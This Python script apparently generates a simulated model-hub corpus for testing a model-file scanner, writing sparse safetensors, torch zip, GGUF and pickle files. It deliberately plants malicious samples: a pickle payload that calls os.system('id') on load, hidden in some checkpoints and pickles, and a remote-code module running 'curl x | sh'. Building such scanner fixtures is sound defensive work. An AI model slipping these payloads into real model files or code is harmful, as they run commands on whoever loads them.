#!/usr/bin/env python3
"""Generates a simulated model hub: ROOT/ORG/NAME/... repositories with a
mix of formats and sizes shaped like the Hugging Face hub's (config and
tokenizer files in most repos; safetensors, torch zip checkpoints and GGUF
files from tens of MB to several GB; a few small pickles, some of them
malicious; a few repos using auto_map remote code). Large checkpoints are
sparse files: their tensor bytes are holes, so thousands of repos take a
few hundred MB of disk while their stated sizes add up to terabytes.

Standard library only. Deterministic for a given --seed.
"""
import argparse
import json
import os
import random
import shutil
import struct
import zlib

EVIL = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."


def sparse_file(path, prefix, size, suffix=b""):
    """`prefix` at 0, `suffix` at the end, a hole in between."""
    with open(path, "wb") as f:
        f.write(prefix)
        f.truncate(size)
        if suffix:
            f.seek(size - len(suffix))
            f.write(suffix)


def safetensors(path, n_tensors, size, rng):
    header = {"__metadata__": {"format": "pt"}}
    per = max(1, (size - 100_000) // n_tensors)
    off = 0
    for i in range(n_tensors):
        header[f"model.layers.{i}.weight"] = {
            "dtype": "BF16", "shape": [per // 2], "data_offsets": [off, off + (per // 2) * 2]}
        off += (per // 2) * 2
    h = json.dumps(header).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    sparse_file(path, struct.pack("<Q", len(h)) + h, 8 + len(h) + off)


def pickle_for_state_dict(n):
    """A protocol-2 torch-like pickle: a dict of n persistent-id storages."""
    out = bytearray(b"\x80\x02}q\x00(")
    for i in range(n):
        key = f"layer.{i}.weight".encode()
        out += b"X" + struct.pack("<I", len(key)) + key
        out += b"ctorch._utils\n_rebuild_tensor_v2\nq\x01(("
        out += b"X\x07\x00\x00\x00storageq\x02ctorch\nBFloat16Storage\nq\x03"
        sid = str(i).encode()
        out += b"X" + struct.pack("<I", len(sid)) + sid + b"X\x03\x00\x00\x00cpuq\x04K\x10tq\x05Q"
        out += b"K\x00K\x10\x85K\x01\x85\x89ccollections\nOrderedDict\nq\x06)Rq\x07tq\x08Rq\x09"
    out += b"u."
    return bytes(out)


def torch_zip(path, pkl, n_storages, size):
    """A torch.save zip (stored, 64-byte aligned) whose storages are holes.
    Storage CRCs are not computed (aisec never reads storages)."""
    entries = []
    f = open(path, "wb")

    def member(name, data=None, length=None):
        name_b = name.encode()
        off = f.tell()
        pad = (64 - (off + 30 + len(name_b) + 4) % 64) % 64
        extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad
        length = len(data) if data is not None else length
        crc = zlib.crc32(data) if data is not None else 0
        f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, crc, length, length,
                            len(name_b), len(extra)) + name_b + extra)
        if data is not None:
            f.write(data)
        else:
            f.seek(length, 1)
        entries.append((name_b, off, crc, length))

    root = "archive/"
    member(root + "data.pkl", pkl)
    member(root + "byteorder", b"little")
    per = max(64, (size - 4096) // max(1, n_storages))
    for i in range(n_storages):
        member(f"{root}data/{i}", None, per)
    member(root + "version", b"3\n")
    cd = f.tell()
    for name_b, off, crc, length in entries:
        f.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, crc, length,
                            length, len(name_b), 0, 0, 0, 0, 0, off) + name_b)
    end = f.tell()
    f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), end - cd, cd, 0))
    f.close()


def gguf(path, n_tokens, size):
    def s(b):
        return struct.pack("<Q", len(b)) + b
    kv = [(b"general.architecture", 8, s(b"llama")), (b"general.name", 8, s(b"sim"))]
    toks = b"".join(s(f"tok{i}".encode()) for i in range(n_tokens))
    kv.append((b"tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, n_tokens) + toks))
    body = b"".join(s(k) + struct.pack("<I", t) + v for k, t, v in kv)
    tensors = b"".join(s(f"blk.{i}.w".encode()) + struct.pack("<IQIQ", 1, 1024, 1, i * 2048)
                       for i in range(8))
    head = b"GGUF" + struct.pack("<IQQ", 3, 8, len(kv)) + body + tensors
    sparse_file(path, head, max(size, len(head) + 8 * 2048 + 64))


def lognormal_size(rng, median, sigma, lo, hi):
    return int(min(hi, max(lo, rng.lognormvariate(0, sigma) * median)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("root")
    ap.add_argument("--repos", type=int, default=2000)
    ap.add_argument("--seed", type=int, default=18)
    ap.add_argument("--fixtures", default=None, help="folder of scan fixtures mixed into a few repos")
    a = ap.parse_args()
    rng = random.Random(a.seed)
    fixtures = []
    if a.fixtures:
        for d, _, files in os.walk(a.fixtures):
            fixtures += [os.path.join(d, f) for f in sorted(files)]
    stored = 0
    kinds = {}
    for r in range(a.repos):
        org = f"org{r % 97:02d}"
        repo = os.path.join(a.root, org, f"model-{r:05d}")
        os.makedirs(repo, exist_ok=True)
        cfg = {"model_type": rng.choice(["llama", "bert", "gpt2", "t5", "vit"]), "hidden_size": 768}
        remote_code = rng.random() < 0.02
        if remote_code:
            cfg["auto_map"] = {"AutoModel": "modeling_sim.SimModel"}
            code = "import torch\nclass SimModel: pass\n"
            if rng.random() < 0.3:
                code += "import os\nos.system('curl x | sh')\n"
            open(os.path.join(repo, "modeling_sim.py"), "w").write(code)
        open(os.path.join(repo, "config.json"), "w").write(json.dumps(cfg))
        open(os.path.join(repo, "README.md"), "w").write("# model\n" + "text " * rng.randint(50, 2000))
        if rng.random() < 0.6:
            # tokenizer.json: 0.3-2 MB of JSON text.
            n = rng.randint(300_000, 2_000_000)
            with open(os.path.join(repo, "tokenizer.json"), "w") as f:
                f.write('{"model":{"vocab":{' + ",".join(f'"t{i}":{i}' for i in range(n // 12)) + "}}}")
        x = rng.random()
        if x < 0.45:
            kind = "safetensors"
            size = lognormal_size(rng, 500e6, 1.3, 20e6, 15e9)
            safetensors(os.path.join(repo, "model.safetensors"), rng.randint(50, 400), size, rng)
        elif x < 0.75:
            kind = "torch-zip"
            size = lognormal_size(rng, 400e6, 1.2, 10e6, 10e9)
            n = rng.randint(20, 300)
            evil = rng.random() < 0.01
            # Checkpoints over 3.5 GB are sharded, as transformers does
            # (pytorch_model-00001-of-00003.bin), which keeps each zip
            # below zip64 sizes.
            parts = max(1, -(-size // int(3.5e9)))
            for k in range(parts):
                name = "pytorch_model.bin" if parts == 1 else f"pytorch_model-{k + 1:05d}-of-{parts:05d}.bin"
                pkl = EVIL if evil and k == 0 else pickle_for_state_dict(n)
                torch_zip(os.path.join(repo, name), pkl, n, size // parts)
        elif x < 0.85:
            kind = "gguf"
            size = lognormal_size(rng, 4e9, 0.8, 300e6, 40e9)
            gguf(os.path.join(repo, "model.gguf"), rng.randint(1000, 32000), size)
        elif x < 0.93:
            kind = "pickle"
            body = EVIL if rng.random() < 0.05 else b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s."
            open(os.path.join(repo, "model.pkl"), "wb").write(body)
        elif fixtures:
            kind = "fixture"
            src = rng.choice(fixtures)
            shutil.copy(src, os.path.join(repo, os.path.basename(src)))
        else:
            kind = "none"
        kinds[kind] = kinds.get(kind, 0) + 1
        for d, _, files in os.walk(repo):
            stored += sum(os.path.getsize(os.path.join(d, f)) for f in files)
    print(json.dumps({"repos": a.repos, "bytes_stored": stored, "kinds": kinds}))


if __name__ == "__main__":
    main()
